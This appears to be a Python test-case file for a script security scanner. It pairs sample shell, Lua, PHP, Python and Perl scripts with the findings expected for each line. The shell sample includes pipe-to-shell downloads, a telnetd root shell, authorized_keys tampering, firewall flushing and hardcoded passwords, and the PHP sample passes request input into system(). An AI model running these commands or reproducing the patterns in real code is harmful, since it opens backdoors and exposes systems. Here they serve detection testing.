"""Samples of scripts."""

from __future__ import annotations

from tests.inspect.case import Case

SHELL = rb"""#!/bin/sh
# telnetd -l /bin/sh
eval "$CMD"
wget http://updates.example/fw.bin -O /tmp/fw   # http only
wget --no-check-certificate https://x.example/a
curl -sk https://x.example/b | sh
curl -u admin:hunter22 https://x.example/c
mysql -uroot -psecret99 db
echo "root:letmein1" | chpasswd
telnetd -p 65534 -l /bin/sh &
chmod -R 777 /tmp/x
chmod 4755 /bin/su
mknod /dev/x c 1 1
iptables -A INPUT -p tcp --dport 23 -j ACCEPT
iptables -F
cat key >> /root/.ssh/authorized_keys
echo "use telnet to reach it"
cat <<EOF
please run telnet 10.0.0.1
EOF
nc -l -p 5515
"""
LUA = b'os.execute("ping " .. host)\n-- os.execute("x" .. y)\n--[[\nos.execute("z" .. y)\n]]\nos.execute("reboot")\n'
PHP = b"<?php\n/* system($_GET['a']); */\n// eval($x);\nsystem('ping ' . $_GET['host']);\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('x ' + y)\nrequests.get(u, verify=False)\n"
PERL = b'#!/usr/bin/perl\nsystem("ls $dir");\nprint "ok";\n'

CASES = [
    Case(
        "scripts",
        "positive",
        "shell",
        lambda: SHELL,
        path="sbin/x",
        expect=[
            {"fact": "script.summary", "language": "shell", "interpreter": "/bin/sh", "lines": 21},
            {"use": "eval", "line": 3},
            {"use": "download-http", "line": 4},
            {"use": "no-certificate-check", "line": 5},
            {"use": "no-certificate-check", "line": 6},
            {"use": "run-download", "line": 6},
            {"use": "credential", "line": 7, "text": "curl -u admin:h…2 https://x.example/c"},
            {"use": "credential", "line": 8},
            {"use": "credential", "line": 9},
            {"use": "telnet", "line": 10},
            {"use": "world-writable", "line": 11},
            {"use": "set-id", "line": 12},
            {"use": "device-node", "line": 13},
            {"use": "open-firewall", "line": 14},
            {"use": "flush-firewall", "line": 15},
            {"use": "authorized-keys", "line": 16},
            {"use": "netcat", "line": 21},
        ],
        never=[{"line": 2}, {"line": 17}, {"line": 19}],
    ),
    Case(
        "scripts",
        "positive",
        "lua",
        lambda: LUA,
        path="usr/lib/lua/x.lua",
        expect=[{"use": "shell-out", "line": 1, "language": "lua"}],
        never=[{"line": 2}, {"line": 4}, {"line": 6}],
    ),
    Case(
        "scripts",
        "positive",
        "php",
        lambda: PHP,
        path="www/ping.php",
        expect=[{"use": "shell-out", "line": 4}],
        never=[{"line": 2}, {"line": 3}],
    ),
    Case(
        "scripts",
        "positive",
        "python",
        lambda: PYTHON,
        path="usr/bin/tool",
        expect=[{"use": "shell-out", "line": 3}, {"use": "no-certificate-check", "line": 4}],
    ),
    Case("scripts", "positive", "perl", lambda: PERL, path="x", expect=[{"use": "shell-out", "line": 2}]),
    Case(
        "scripts",
        "positive",
        "passwords assigned",
        lambda: (
            b"#!/bin/sh\nPORTAL_PASSWORD=\"Bl4ck-Fleet-2019\"\nexport apikey='abcd1234'\nDB_PASS=hunter22\n"
            b'PASSWORD="$1"\nPASSWD_FILE=/etc/passwd\ntoken=done\npass=0\nPASSWORD=$(cat /tmp/p)\nSECRET=""\n'
        ),
        path="x.sh",
        expect=[
            {"use": "credential", "line": 2, "text": 'PORTAL_PASSWORD="B…9"'},
            {"use": "credential", "line": 3},
            {"use": "credential", "line": 4},
        ],
        never=[{"use": "credential", "line": n} for n in range(5, 11)],
    ),
    Case("scripts", "negative", "text", lambda: b"run telnetd -l /bin/sh\n", path="usr/share/doc/readme"),
    Case(
        "scripts",
        "negative",
        "harmless",
        lambda: (
            b"#!/bin/sh\n[ -s /root/.ssh/authorized_keys ] && exit 2> /dev/null\ncurl -o k https://x\nchmod 644 a\n"
        ),
        path="x.sh",
        expect=[{"fact": "script.use"}],
    ),
    Case("scripts", "malformed", "too large", lambda: b"#!/bin/sh\n" + b"wget " * 300_000, path="x.sh"),
    Case(
        "scripts",
        "malformed",
        "one long line",
        lambda: b"#!/bin/sh\n" + b"wget chmod -R iptables -A INPUT " * 20_000,
        path="x.sh",
        never=[{"use": "download-http"}],
    ),
]
